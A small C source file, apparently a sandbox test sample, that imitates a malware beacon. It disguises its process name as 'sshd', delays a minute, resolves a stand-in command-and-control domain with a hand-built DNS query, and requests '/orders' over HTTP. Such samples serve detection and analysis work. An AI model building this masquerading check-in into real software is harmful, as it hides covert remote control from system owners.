/* As beacon.c, for the fake Internet: takes a false name, sleeps a minute, asks DNS by hand, fetches by HTTP. */
#include "linux_mips.h"

static const u8 question[] = {
	0x12, 0x34, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0,
	3, 'c', 'n', 'c', 5, 'o', 't', 'o', 'r', 'i', 7, 'e', 'x', 'a', 'm', 'p', 'l', 'e', 0, 0, 1, 0, 1,
};
static u8 answer[512];

static int sample(void)
{
	int minute[2] = { 60, 0 };
	int fd, got, status = 3;

	call(CALL_PRCTL, PR_SET_NAME, (int)"sshd", 0, 0);
	call(CALL_NANOSLEEP, (int)minute, 0, 0, 0);
	fd = reach(SOCK_DGRAM, 198, 51, 100, 53, 53);
	call(CALL_WRITE, fd, (int)question, sizeof question, 0);
	got = await(fd, POLLIN) ? call(CALL_READ, fd, (int)answer, sizeof answer, 0) : 0;
	call(CALL_CLOSE, fd, 0, 0, 0);
	/* the address is the end of an answer with one A record */
	if (got < (int)sizeof question + 16) {
		say(1, "no answer\n");
		return 1;
	}
	fd = reach(SOCK_STREAM, answer[got - 4], answer[got - 3], answer[got - 2], answer[got - 1], 8080);
	if (fd < 0)
		return 2;
	say(fd, "GET /orders?id=7 HTTP/1.0\r\nHost: cnc.otori.example:8080\r\nUser-Agent: otori-sample\r\n\r\n");
	if (await(fd, POLLIN) && (got = call(CALL_READ, fd, (int)answer, sizeof answer, 0)) > 0) {
		call(CALL_WRITE, 1, (int)answer, got, 0);
		status = 0;
	}
	call(CALL_CLOSE, fd, 0, 0, 0);
	return status;
}
